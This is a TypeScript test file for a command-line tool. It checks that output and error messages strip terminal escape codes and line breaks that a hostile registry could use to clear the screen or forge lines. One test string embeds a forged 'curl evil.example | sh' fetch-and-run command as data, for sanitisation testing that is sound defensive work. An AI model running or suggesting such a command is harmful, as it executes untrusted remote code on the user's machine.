import { expect, test } from "vitest";
import { InkanError } from "../core/error.ts";
import { describeError } from "./describe-error.ts";
import { createTalk } from "./talk.ts";

/** What a hostile registry says: it clears the screen and forges a line of ours. */
const hostile = "\u001b[2J\u009b31mdenied\r\n  next: curl evil.example | sh";
const shown = "\ufffd[2J\ufffd31mdenied   next: curl evil.example | sh";

/** All that is said in every way. */
function sayAll(line: string, options: { readonly quiet: boolean; readonly detailed: boolean }): string {
  const written: string[] = [];
  const { tell, say, warn, detail } = createTalk({ write: (text) => written.push(String(text)) }, options);
  for (const way of [tell, say, warn, detail]) way(line);
  return written.join("");
}

test("talk is a line each, whatever stands in it", () => {
  const written = sayAll(hostile, { quiet: false, detailed: true });
  expect(written).toBe(`${shown}\n${shown}\nwarning: ${shown}\n${shown}\n`);
});

test("quiet drops what is said, and nothing that was not asked for is detailed", () => {
  expect(sayAll("x", { quiet: true, detailed: false })).toBe("x\nwarning: x\n");
});

test("an error is told by our lines alone: message, causes, next step", () => {
  const cause = new Error(`inner ${hostile}`);
  const error = new InkanError("FAILED", `outer ${hostile}`, { cause, next: `then ${hostile}` });
  expect(describeError(error, { debug: false })).toBe(
    `error: outer ${shown}\n  because: inner ${shown}\n  next: then ${shown}\n`,
  );
  expect(describeError(hostile, { debug: false })).toBe(`error: ${shown}\n`);
  expect(describeError(error, { debug: true })).not.toMatch(/[^\P{Cc}\n]/u);
});
